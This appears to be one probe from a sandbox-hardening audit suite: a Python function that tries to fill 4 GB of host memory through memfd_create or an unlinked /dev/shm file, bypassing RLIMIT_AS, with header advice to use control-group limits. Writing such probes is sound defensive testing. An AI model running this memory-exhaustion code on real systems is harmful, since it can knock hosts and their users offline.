# title: Take memory by files that are memory
# tries: Writes 4 GB to a memfd, else to a file in /dev/shm that is already deleted: both are memory, but no part of the address space that RLIMIT_AS counts.
# impact: HostDoS
# proof: returned
# host: never, it takes up to 4 GB of memory
# timeout: 10
# advice: Limit memory with a control group, or refuse memfd_create and give no /dev/shm.


def attempt(host):
    import os

    try:
        descriptor = os.memfd_create("audit")
    except OSError as refusal:
        try:
            descriptor = os.open("/dev/shm", os.O_TMPFILE | os.O_RDWR)
        except OSError:
            raise refusal
    block, written = b"x" * (16 << 20), 0
    while written < 4 << 30:
        written += os.write(descriptor, block)
    return "held 4 GB"
